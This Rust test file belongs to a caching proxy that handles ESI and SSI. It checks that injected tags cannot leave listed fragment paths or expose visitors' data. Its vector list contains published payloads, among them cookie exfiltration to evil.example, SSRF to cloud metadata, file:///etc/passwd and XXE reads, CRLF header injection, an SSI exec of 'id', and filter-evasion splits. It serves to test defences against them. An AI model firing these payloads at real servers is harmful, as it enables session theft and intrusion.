//! Tags of strangers in a page: published vectors of ESI injection, and others. None of them asks for anything but listed
//! fragments of the page's own host, and none shows or sets anything of the visitor's.

use super::*;

/// Vectors that may ask for `/f/ok`, and for nothing else.
const VECTORS: &[&str] = &[
    // Elsewhere: other hosts, schemes and programs of this machine.
    "<esi:include src=\"http://evil.example/f/ok\"/>",
    "<esi:include src=//evil.example/f/ok />",
    "<esi:include src=\"http://example.com@evil.example/f/ok\"/>",
    "<esi:include src=\"http://example.com:80@evil.example/f/ok\"/>",
    "<esi:include src=\"http://example.com.evil.example/f/ok\"/>",
    "<esi:include src=\"http://example.com:8080/f/ok\"/>",
    "<esi:include src=\"http://evil.example#@example.com/f/ok\"/>",
    "<esi:include src=\"http://evil.example\\@example.com/f/ok\"/>",
    "<esi:include src=\"http://127.0.0.1/account\"/>",
    "<esi:include src=\"http://[::1]/f/ok\"/>",
    "<esi:include src=\"http://169.254.169.254/latest/meta-data/\"/>",
    "<esi:include src=\"http://2130706433/f/ok\"/>",
    "<esi:include src=\"file:///etc/passwd\"/>",
    "<esi:include src=\"ftp://example.com/f/ok\"/>",
    "<esi:include src=\"gopher://example.com:70/_GET\"/>",
    "<esi:include src=\"javascript:alert(1)\"/>",
    "<esi:include src=\"data:text/html,<script>alert(1)</script>\"/>",
    "<esi:include src=\"cache_object://example.com/info\"/>",
    // Pages of this host.
    "<esi:include src=\"/account\"/>",
    "<esi:include src=\"http://example.com/account\"/>",
    "<esi:include src=\"account\"/>",
    "<esi:include src=\"?account\"/>",
    "<esi:include src=\"/f/../account\"/>",
    "<esi:include src=\"/f/%2e%2e/account\"/>",
    "<esi:include src=\"/f/..%2faccount\"/>",
    "<esi:include src=\"/f/..%252faccount\"/>",
    "<esi:include src=\"/f/..;/account\"/>",
    "<esi:include src=\"/f/..\\account\"/>",
    "<esi:include src=\"/f//../../account\"/>",
    "<esi:include src=\"/f/%00/../../account\"/>",
    "<esi:include src=\"/F/ok\"/>",
    "<esi:include src=\"/account?/f/ok\"/>",
    "<esi:include src=\"/account#/f/ok\"/>",
    "<esi:include src=\"/.well-known/microcache/live.js\"/>",
    "<esi:include src=\"/metrics\"/>",
    "<esi:include src='/f/fails' alt='/account'/>",
    "<esi:include src='/f/fails' alt='http://evil.example/f/ok'/>",
    // Fields and lines.
    "<esi:include src=\"/f/ok\r\nX-Injected: 1\"/>",
    "<esi:include src=\"/f/ok HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /account\"/>",
    "<esi:include src=\"/f/ok&#13;&#10;X-Injected: 1\"/>",
    "<esi:include src=\"/f/ok%0d%0aX-Injected:%201\"/>",
    "<esi:include src=\"/f/ok\" setheader=\"X-Injected: 1\" appendheader='X-Injected: 1' method='POST' entity='a'/>",
    "<esi:include src=\"/f/ok\"><esi:request_header name=\"X-Injected\" value=\"1\"/></esi:include>",
    "<!--esi $add_header('X-Injected', '1') -->",
    "<esi:vars>$add_header('X-Injected','1')$set_redirect('http://evil.example')</esi:vars>",
    // Cookies, variables, conditions and code.
    "<esi:vars>$(HTTP_COOKIE)</esi:vars>",
    "<esi:include src=\"http://evil.example/?$(HTTP_COOKIE{session})\"/>",
    "<esi:include src=\"/f/ok?$(HTTP_COOKIE{session})\"/>",
    "<!--esi/$(HTTP_COOKIE{'session'})/-->",
    "<esi:assign name=\"a\" value=\"$(HTTP_COOKIE)\"/><esi:vars name=\"$(a)\"/>",
    "<esi:choose><esi:when test=\"$(HTTP_COOKIE{session})=='victim'\">yes</esi:when></esi:choose>",
    "<esi:function name=\"f\">$(HTTP_COOKIE)</esi:function>$f()",
    "<esi:eval src=\"/account\" dca=\"none\"/>",
    "<esi:include src=\"/account\" dca=\"xslt\" stylesheet=\"http://evil.example/x.xsl\"/>",
    "<esi:include src=\"/f/ok\" dca=\"xslt\" stylesheet=\"/account\"/>",
    "<esi:inline name=\"/account\" fetchable=\"yes\"><script>alert(1)</script></esi:inline>",
    "<esi:debug/>",
    "<esi:try><esi:attempt><esi:include src=\"/account\"/></esi:attempt><esi:except>x</esi:except></esi:try>",
    "<esi:foreach item=\"c\" collection=\"$(HTTP_COOKIE)\">$(c)</esi:foreach>",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><esi:include src=\"&b;\"/>",
    // Filters that look for whole words.
    "<es<esi:remove>x</esi:remove>i:include src=\"/account\"/>",
    "<s<!--esi-->cript>alert(1)</s<!--esi-->cript>",
    "<<!--esi --><esi:include src=\"/account\"/>",
    "x=<esi:assign name=\"v\" value=\"'cript'\"/><s<esi:vars name=\"$(v)\"/>>",
    "<!--esi <esi:include src=\"/account\"/> -->",
    "<!--esi<!--esi<esi:include src='/account'/>-->-->",
    "<esi:remove></esi:remove><esi:include src=\"/account\"/>",
    "</esi:remove><esi:include src=\"/account\"/>",
    "]]><esi:include src=\"/account\"/>",
    "--><esi:include src=\"/account\"/>",
    "\"/><esi:include src=\"/account\"/>",
    "<esi:include src=\"/f/ok\" src=\"/account\"/>",
    "<esi:include src=\"/f/ok><esi:include src='/account'/>\"/>",
    "<esi:include\nsrc\n=\n'/account'\n/>",
    "<ESI:INCLUDE SRC=\"/account\"/>",
    "<esi:include src=\"/f/ok?'><esi:include src=/account />",
    // SSI.
    "<!--#include virtual=\"/account\" -->",
    "<!--#include virtual=\"http://evil.example/f/ok\" -->",
    "<!--#include file=\"../account\" -->",
    "<!--#exec cmd=\"id\" -->",
    "<!--#echo var=\"HTTP_COOKIE\" -->",
    "<!--#set var=\"a\" value=\"/account\" --><!--#include virtual=\"$a\" -->",
    "<!--#if expr=\"$HTTP_COOKIE = /victim/\" -->yes<!--#endif -->",
    "<!--#block name=\"a\" --><esi:include src=\"/account\"/><!--#endblock --><!--#include virtual=\"/f/fails\" stub=\"a\" -->",
    // Fragments with tags.
    "<esi:include src=\"/f/reflects\"/>",
    "<esi:include src=\"/f/bomb\"/>",
];

/// The places in which applications show text of strangers; `{}` is the text.
const PLACES: &[&str] = &[
    "<p>{}</p>",
    "<a title=\"{}\" href='{}'>x</a>",
    "<script>var a = \"{}\";</script>",
    "<script type=\"application/json\">{\"name\": \"{}\"}</script>",
    "<!-- {} -->",
    "<!--esi {} -->",
    "<esi:remove>{}</esi:remove>",
    "<![CDATA[{}]]>",
    "<textarea>{}</textarea><esi:include src='/f/ok'/>",
];

/// An origin whose pages show a text, and whose other pages are secret.
fn origin_with_secrets() -> Origin {
    let origin = Origin::start();
    let secret = [HTML, SHARED, "X-Injected: 1", "Set-Cookie: stolen=1"];
    origin.on(crate::support::ANY).answer(move |seen| {
        if seen.target.starts_with("/f/") {
            shared("ok")
        } else {
            Reply::ok(&secret, "SECRET")
        }
    });
    origin
        .on("/f/fails")
        .answer(|_| Reply::new(500).body("SECRET"));
    origin
        .on("/f/reflects")
        .answer(|_| shared("<esi:include src=\"/account\"/><esi:vars>$(HTTP_COOKIE)</esi:vars>"));
    let bomb = tag("/f/bomb").repeat(10_000);
    origin.on("/f/bomb").answer(move |_| shared(&bomb));
    origin
}

/// Everything but pages whose target begins with `/page` that the origin was asked for, of which none may be elsewhere.
fn assert_only_fragments(origin: &Origin) {
    for seen in origin.requests() {
        let is_allowed = seen.target.starts_with("/f/") || seen.target.starts_with("/page");
        assert!(is_allowed, "it was asked for {}", seen.target);
        let path = seen.target.split('?').next().unwrap_or_default();
        assert!(!path.contains(".."), "it was asked for {}", seen.target);
        assert_eq!(seen.field("x-injected"), None, "{}", seen.target);
        assert_eq!(seen.field("host"), Some("example.com"), "{}", seen.target);
        assert!(!seen.target.contains("victim"), "{}", seen.target);
    }
}

/// Asserts that a response shows nothing that only another page, or the visitor's browser, knows.
fn assert_harmless(response: &Response, of: &str) {
    let text = response.text();
    for secret in ["SECRET", "victim", "root:"] {
        assert!(!text.contains(secret), "{of}: {text}");
    }
    // One whose parts were apart, or in a block of SSI, is text, which is not read again.
    let is_text = of.contains("<es<") || of.contains("stub=");
    assert!(is_text || !text.contains("<esi:"), "{of}: {text}");
    for name in ["x-injected", "set-cookie", "location"] {
        assert_eq!(response.field(name), None, "{of}");
    }
}

#[test]
fn no_injected_tag_leaves_the_listed_paths() {
    let origin = origin_with_secrets();
    let proxy = proxy(&origin, "[[routes]]\nedge = \"always\"");
    for (at, vector) in VECTORS.iter().enumerate() {
        for (place_at, place) in PLACES.iter().enumerate() {
            let body = place.replace("{}", vector);
            for lifetime in [SHARED, PERSONAL] {
                let target = format!("/page/{at}/{place_at}/{}", lifetime.len());
                let fields = [HTML, lifetime];
                let reply = body.clone();
                origin
                    .on(&target)
                    .answer(move |_| Reply::ok(&fields, &reply));
                for _ in 0..2 {
                    let response = get_as(&proxy, "victim", &target);
                    assert_eq!(response.status, 200, "{body}: {response:?}");
                    // A section of data is text, as it stands.
                    if !place.contains("CDATA") {
                        assert_harmless(&response, &body);
                    }
                }
            }
        }
    }
    assert_only_fragments(&origin);
}

#[test]
fn no_place_of_a_division_makes_a_difference() {
    let origin = origin_with_secrets();
    let proxy = proxy(&origin, "[[routes]]\nedge = \"always\"");
    for (at, body) in [
        "a<esi:include src=\"/account\" alt='/f/ok'/>b",
        "a<!--esi <esi:remove>x</esi:remove>-->b",
        "<![CDATA[a]]>b<!--#include virtual=\"/account\" -->c</esi:include>",
    ]
    .into_iter()
    .enumerate()
    {
        let mut texts = Vec::new();
        for cut in 1..body.len() {
            let target = format!("/page/{at}/{cut}");
            let fields = [HTML, PERSONAL, "Transfer-Encoding: chunked"];
            origin.on(&target).answer(move |_| {
                let head = Reply::new(200).with_all(&fields);
                let (one, other) = body.split_at(cut);
                head.chunk(one).chunk(other).send("0\r\n\r\n")
            });
            texts.push(proxy.get(&target).text());
        }
        texts.dedup();
        assert_eq!(texts.len(), 1, "{texts:?}");
        assert!(!texts[0].contains("SECRET"), "{texts:?}");
    }
    assert_only_fragments(&origin);
}

#[test]
fn text_of_strangers_in_a_fragment_is_text() {
    let origin = Origin::start();
    let proxy = proxy(&origin, "");
    origin
        .on("/")
        .reply(page(&format!("{}{}", tag("/f/name"), tag("/f/json"))));
    let tags = tag("/f/secret");
    origin.on("/f/name").reply(shared(&tags));
    let json = ["Content-Type: application/json", ANNOUNCED, SHARED];
    origin.on("/f/json").reply(Reply::ok(&json, &tags));
    origin.on("/f/secret").reply(shared("SECRET"));
    for _ in 0..2 {
        proxy.get("/").assert_is(200, &format!("{tags}{tags}"));
    }
    assert_eq!(origin.count("/f/secret"), 0);
}

#[test]
fn the_host_of_a_request_is_no_other_hosts_page() {
    let origin = origin_with_secrets();
    let proxy = proxy(&origin, "[[routes]]\nedge = \"always\"");
    let body = "<esi:include src='http://example.com/f/ok'/>";
    origin
        .on("/page")
        .answer(move |_| Reply::ok(&[HTML, PERSONAL], body));
    proxy.get("/page").assert_is(200, "ok");
    for host in ["evil.example", "example.com:81", "example.com.evil.example"] {
        let request = format!("GET /page HTTP/1.1\r\nHost: {host}\r\n\r\n");
        proxy.request(request).assert_is(200, "");
    }
}

#[test]
fn ten_thousand_tags_use_no_memory() {
    let origin = Origin::start();
    let proxy = proxy(&origin, "memory = \"64MiB\"");
    let tags = tag("/f/large").repeat(10_000);
    let large = "x".repeat(200_000);
    origin.on("/f/large").reply(Reply::ok(&[PERSONAL], large));
    origin.on("/").reply(page(&tags));
    origin.on("/account").reply(personal_page(&tags));
    proxy.get("/");
    let before = proxy.resident();
    for _ in 0..5 {
        let mut clients: Vec<_> = (0..4)
            .map(|at| proxy.ask(if at % 2 == 0 { "/" } else { "/account" }))
            .collect();
        for client in &mut clients {
            // At most 4 MiB of a page are held.
            assert_eq!(client.response().status, 200);
        }
    }
    let grown = proxy.resident().saturating_sub(before);
    assert!(grown < 64 << 20, "{} MiB more", grown >> 20);
    assert!(origin.count("/f/large") <= 21 * 64);
}
